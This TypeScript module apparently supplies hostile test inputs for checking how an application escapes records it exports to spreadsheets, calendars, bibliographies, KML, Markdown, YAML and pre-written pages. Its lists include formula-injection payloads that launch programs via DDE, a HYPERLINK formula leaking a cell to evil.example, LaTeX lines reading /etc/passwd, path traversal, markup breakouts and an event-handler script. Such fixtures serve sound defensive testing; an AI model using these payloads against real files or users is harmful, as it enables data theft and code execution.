// Texts and addresses of records on their way out: into files for other programs, and into the pages
// that are written beforehand. An input of the kinds "export" and "page" is the text; one that begins
// with "address:" stands for the address of every source.

import { type HostileInput, inputsOf } from "../hostileInput";
import { ADDRESSES, LETTERS, MARKUP } from "../hostileTexts";

export const ADDRESS_MARK = "address:";

const FORMULAS = {
  formula: "=1+1",
  "formula with a link": '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "formula that runs a program": "=cmd|' /C calc'!A0",
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  "formula after a tab": "\t=1+1",
  "formula after a return": "\r=1+1",
  "formula after a line end": "\n=1+1",
  "formula after spaces": "   =1+1",
  "formula after a zero-width space": "\u200b=1+1",
  "formula after a byte-order mark": "\ufeff=1+1",
  "formula in full width": "＝1+1",
  "formula in quotation marks": '"=1+1"',
  "formula after an apostrophe": "'=1+1",
  "formula in a second line": "x\n=1+1",
  "formula after a comma": 'x",=1+1,"',
  "formula after a semicolon": "x;=1+1",
  "percent formula": "%=1",
  "exchange of data": "|calc",
};

const INJECTIONS = {
  "another calendar event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y",
  "another calendar property": "x\nATTACH:https://evil.example/\nX",
  "folded calendar line": "x\r\n ATTACH:y",
  "calendar commas": "a\\,b;c\\n\\",
  "another record of RIS": "x\r\nER  - \r\nTY  - ELEC\r\nUR  - https://evil.example/",
  "another entry of BibTeX": "x}},\n}\n@misc{evil, url = {https://evil.example/}}\n",
  "command of LaTeX": "\\input{/etc/passwd}\\write18{calc}",
  "brace left open": "{{{{",
  "brace left closed": "}}}}",
  "end of CDATA in KML":
    "]]></description><NetworkLink><Link><href>https://evil.example/</href></Link></NetworkLink>",
  "picture in a KML balloon": '<img src="https://evil.example/x.png">',
  "KML entity": "$[name] $[$[name]]",
  "JSON in JSON": '","type":"Feature","x":"',
  "Markdown heading": "# x\n\n## y\n\n---\n",
  "Markdown picture": "![x](https://evil.example/x.png)",
  "HTML in Markdown": "<details open ontoggle=alert(1)>",
  "bare address in Markdown": "https://evil.example www.evil.example",
  "code in Markdown": "```\nx\n```",
  "YAML document": "x\n---\n!!js/function 'y'\n",
  "YAML alias": "*x &y !!z",
  "YAML keyword": "no",
  "YAML number": "0o17",
  "YAML escapes": '"\\x41\\u0041"\u0085\u2028',
  "path as a title": "../../../etc/passwd",
  "device as a title": "CON",
  "title of dots": "...",
  "four thousand letters": "a".repeat(4000),
  "four thousand emoji": "🛰".repeat(2000),
  "a line of 4000 spaces": `a${" ".repeat(4000)}b`,
};

const addresses = Object.fromEntries(
  Object.entries(ADDRESSES).map(([name, address]) => [
    `address of a source: ${name}`,
    `${ADDRESS_MARK}${address}`,
  ]),
);

export const WRITTEN_TEXTS: readonly HostileInput[] = [
  ...inputsOf("export", { ...FORMULAS, ...INJECTIONS, ...MARKUP, ...LETTERS, ...addresses }),
  ...inputsOf("page", { ...INJECTIONS, ...MARKUP, ...LETTERS, ...addresses }),
];
